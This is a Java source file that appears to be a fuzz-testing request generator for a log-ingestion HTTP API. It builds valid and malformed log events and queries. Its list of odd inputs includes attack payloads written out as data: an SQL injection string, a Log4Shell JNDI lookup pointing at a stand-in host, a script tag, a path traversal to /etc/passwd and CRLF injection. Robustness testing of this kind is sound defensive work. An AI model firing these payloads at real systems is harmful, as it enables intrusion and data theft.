package com.astrobookings.logs.fuzz;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Random requests: valid ones of every kind, and others that are nearly valid or not at all. */
final class Requests {

  /** A request that can be sent, and whether it is valid. */
  record Sample(HttpRequest request, boolean valid) {}

  private static final Instant NOW = Instant.parse("2024-08-12T10:00:00Z");

  private static final List<String> ODD =
      List.of(
          "",
          " ",
          "null",
          "-1",
          "1e999",
          "9".repeat(400),
          "\u0000",
          "\u202e",
          "\ud83d\ude80",
          "e\u0301",
          "\uff41",
          "'; DROP TABLE logs; --",
          "${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "%00%0d%0a",
          "=HYPERLINK(1)",
          "a".repeat(9_000),
          "{\"a\":".repeat(600),
          "[".repeat(2_000));

  private final String base;
  private final Random random;

  Requests(String base, long seed) {
    this.base = base;
    this.random = new Random(seed);
  }

  Sample next() {
    int kind = random.nextInt(100);
    if (kind < 35) {
      return new Sample(post("/api/v1/logs", body()), true);
    }
    if (kind < 55) {
      return new Sample(get("/api/v1/logs?" + question()), true);
    }
    if (kind < 62) {
      return new Sample(get("/api/v1/logs/fuzz-" + random.nextInt(500)), true);
    }
    if (kind < 82) {
      return new Sample(post("/api/v1/logs", mutated(body())), false);
    }
    return new Sample(kind < 92 ? oddQuestion() : oddRequest(), false);
  }

  private String body() {
    return switch (random.nextInt(3)) {
      case 0 -> event();
      case 1 ->
          IntStream.range(0, 1 + random.nextInt(5))
              .mapToObj(i -> event())
              .collect(Collectors.joining(",", "[", "]"));
      default -> "[" + event() + ",\n" + event() + "]";
    };
  }

  private String event() {
    String start =
        "{\"timestamp\":\"%s\",\"id\":\"fuzz-%d\","
            .formatted(NOW.minusSeconds(random.nextInt(100_000)), random.nextInt(1_000_000));
    return start
        + switch (random.nextInt(4)) {
          case 0 ->
              "\"type\":\"AUTH\",\"userId\":\"u-%d\",\"ipAddress\":\"192.0.2.%d\",\"result\":\"FAIL\"}"
                  .formatted(random.nextInt(100), random.nextInt(256));
          case 1 ->
              "\"type\":\"ERROR\",\"errorCode\":\"E%d\",\"errorMessage\":\"m\"}"
                  .formatted(random.nextInt(9));
          case 2 ->
              """
              "type":"RECONCILE","process":"p","recordsProcessed":%d,\
              "discrepanciesFound":0,"timeTakenSeconds":%s}\
              """
                  .formatted(random.nextInt(1_000), random.nextDouble() * 100);
          default ->
              """
              "type":"NOTIFY","jobId":"j","notificationType":"n","recipient":"r@example.com",\
              "status":"SUCCESS"}\
              """;
        };
  }

  private String question() {
    return one(
        () -> "limit=" + (1 + random.nextInt(50)),
        () -> "type=AUTH,ERROR&order=desc&limit=10",
        () -> "from=2024-08-11&to=2024-08-12&total=exact&limit=5",
        () -> "from=now-1d/d&tz=Europe/Madrid&limit=1",
        () -> "total=none&limit=20&type=NOTIFY");
  }

  /** One to three small harms. */
  private String mutated(String body) {
    String harmed = body;
    for (int i = random.nextInt(3); i >= 0; i--) {
      harmed = harm(harmed);
    }
    return harmed;
  }

  private String harm(String body) {
    int at = random.nextInt(body.length() + 1);
    int to = Math.min(body.length(), at + random.nextInt(12));
    return one(
        () -> body.substring(0, at) + body.substring(to),
        () -> body.substring(0, at) + odd() + body.substring(at),
        () -> body.substring(0, at),
        () -> body + body,
        () -> body.replaceFirst("\"[a-zA-Z]+\":", "\"" + escaped(odd()) + "\":"),
        () -> body.replaceFirst(":\"[^\"]*\"", ":\"" + escaped(odd()) + "\""),
        () -> body.replaceFirst(":\"[^\"]*\"", ":{\"deep\":[1,null,true]}"),
        () -> body.replaceFirst("\"type\":\"[A-Z]+\"", "\"type\":\"OTHER\""));
  }

  private static String escaped(String text) {
    return text.replaceAll("[\"\\\\$\\p{Cntrl}]", "_");
  }

  private HttpRequest oddQuestion() {
    String name =
        one(() -> "from", () -> "to", () -> "limit", () -> "cursor", () -> "tz", this::odd);
    return get("/api/v1/logs?" + encoded(name) + "=" + encoded(odd()));
  }

  private HttpRequest oddRequest() {
    return one(
        () -> get("/api/v1/logs/" + encoded(odd())),
        () -> get("/" + encoded(odd())),
        () -> request("/api/v1/logs").DELETE().build(),
        () -> request("/api/v1/logs").PUT(BodyPublishers.ofString(body())).build(),
        () ->
            request("/api/v1/logs")
                .header("Content-Type", encoded(odd()) + "/x")
                .POST(BodyPublishers.ofString(body()))
                .build(),
        () ->
            request("/api/v1/logs")
                .header("Content-Type", "application/json")
                .header("Content-Encoding", "gzip")
                .POST(BodyPublishers.ofString(body()))
                .build(),
        () -> request("/api/v1/logs").header("Accept", "image/png").build(),
        () -> post("/api/v1/logs?refresh=" + encoded(odd()), body()));
  }

  private HttpRequest get(String path) {
    return request(path).build();
  }

  private HttpRequest post(String path, String body) {
    return request(path)
        .header("Content-Type", "application/json")
        .POST(BodyPublishers.ofString(body))
        .build();
  }

  private HttpRequest.Builder request(String path) {
    return HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(20));
  }

  private String odd() {
    return ODD.get(random.nextInt(ODD.size()));
  }

  @SafeVarargs
  private <T> T one(Supplier<T>... choices) {
    return choices[random.nextInt(choices.length)].get();
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }
}
